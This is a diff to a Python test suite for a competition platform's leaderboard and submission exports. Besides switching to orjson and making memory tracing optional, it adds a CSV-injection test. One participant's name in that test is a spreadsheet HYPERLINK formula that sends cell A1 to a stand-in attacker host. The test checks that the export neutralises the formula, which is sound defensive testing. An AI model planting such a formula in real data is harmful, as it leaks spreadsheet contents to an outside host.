@@ -8,6 +8,7 @@ bounded memory and equal the API's pages, item for item.
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import hashlib
 import io
@@ -20,15 +21,16 @@ from pathlib import Path
 from typing import Any
 
 import httpx
+import orjson
 import pytest
 import redis.asyncio as redis
 from podium_runtime.db import Database
-from podium_runtime.testing import TestInfrastructure
+from podium_runtime.testing import TestInfrastructure, eventually
 from sqlalchemy import insert
 
 sys.path.insert(0, str(Path(__file__).parent))
 
-from platform_support.memory import heap_growth
+from platform_support.memory import Growth, heap_growth
 from platform_support.stack import User
 from submissions_support.stack import PredictionStack, prediction_stack
 
@@ -51,22 +53,23 @@ async def stack(
 
 def canonical(item: dict[str, Any]) -> bytes:
     """One item in a form independent of key order."""
-    return json.dumps(item, sort_keys=True).encode()
+    return orjson.dumps(item, option=orjson.OPT_SORT_KEYS)
 
 
 async def stream_export(
-    http: httpx.AsyncClient, path: str, user: User | None, **params: Any
+    http: httpx.AsyncClient, path: str, user: User | None, *, traced: bool = False, **params: Any
 ) -> tuple[str, int, int, list[str]]:
-    """Download an export line by line; return its digest, line count, memory growth, head."""
+    """Download an export line by line; return its digest, line count, head, and with
+    `traced` the memory it grew the heap by (tracing slows every allocation: 0 without)."""
     digest, lines, head = hashlib.sha256(), 0, []
-    with heap_growth() as growth:
+    with heap_growth() if traced else contextlib.nullcontext(Growth()) as growth:
         async with http.stream(
             "GET", path, params=params, headers=user.auth if user else {}
         ) as got:
             assert got.status_code == 200, await got.aread()
             async for line in got.aiter_lines():
                 if params["format"] == "jsonl":
-                    digest.update(canonical(json.loads(line)))
+                    digest.update(canonical(orjson.loads(line)))
                 if len(head) < 3:
                     head.append(line)
                 lines += 1
@@ -181,7 +184,7 @@ async def test_a_100k_board_exports_streamed_and_equal_to_its_pages(
     path = f"/v1/competitions/{cid}/leaderboard"
 
     exported, lines, grown, _ = await stream_export(
-        stack.http, f"{path}/export", None, format="jsonl"
+        stack.http, f"{path}/export", None, traced=True, format="jsonl"
     )
     print(f"board export: {lines} lines, peak memory +{grown} KiB")
     assert lines == BOARD_ROWS
@@ -228,7 +231,7 @@ async def test_50k_submissions_export_streamed_and_equal_to_the_owners_pages(
         ) as got:
             assert got.status_code == 200
             async for line in got.aiter_lines():
-                item = json.loads(line)
+                item = orjson.loads(line)
                 assert item.pop("team_id") is None  # nobody here is in a team
                 digest.update(canonical(item))
                 lines += 1
@@ -265,3 +268,34 @@ async def test_authors_and_owners_download_submission_files(stack: PredictionSta
         assert got.status_code == 200 and got.content == content
     stranger = await stack.http.get(f"/v1/submissions/{sid}/file", headers=other.auth)
     assert stranger.status_code == 404
+
+
+async def test_a_name_a_spreadsheet_would_run_is_exported_as_text(stack: PredictionStack) -> None:
+    """A participant's name is the participant's to choose; in the sponsor's spreadsheet it
+    must stay text (CSV injection): the CSV cell starts with an apostrophe, JSON is exact."""
+    from submissions_support.stack import answer_key, predictions_csv
+
+    owner = await stack.sign_up("Sponsor")
+    competition = await stack.prediction_competition(owner)
+    cid = competition["id"]
+    csv_key, ids, targets = answer_key(seed=47, rows=40)
+    await stack.upload_key(cid, owner, csv_key)
+    name = '=HYPERLINK("http://attacker.test/?leak="&A1,"Winner")'
+    player = await stack.sign_up(name)
+    assert (await stack.join(cid, player))["status"] == "accepted"
+    made = await stack.submit(cid, player, predictions_csv(ids, targets * 0.9))
+    assert made.status_code == 202, made.text
+    assert (await stack.outcome(made.json()["id"], player))["status"] == "scored"
+
+    async def named_line() -> list[dict[str, Any]] | None:
+        entries: list[dict[str, Any]] = (await stack.board(cid)).json()["entries"]
+        return entries if [e["display_name"] for e in entries] == [name] else None
+
+    await eventually(named_line, timeout=30, message="the participant's line on the board")
+    path = f"/v1/competitions/{cid}/leaderboard/export"
+    as_csv = await stack.http.get(path, params={"format": "csv"})
+    assert as_csv.status_code == 200 and as_csv.headers["cache-control"] == "private, no-store"
+    rows = list(csv.DictReader(io.StringIO(as_csv.text, newline="")))
+    assert [row["display_name"] for row in rows] == ["'" + name]
+    as_json = await stack.http.get(path, params={"format": "jsonl"})
+    assert [orjson.loads(line)["display_name"] for line in as_json.text.splitlines()] == [name]
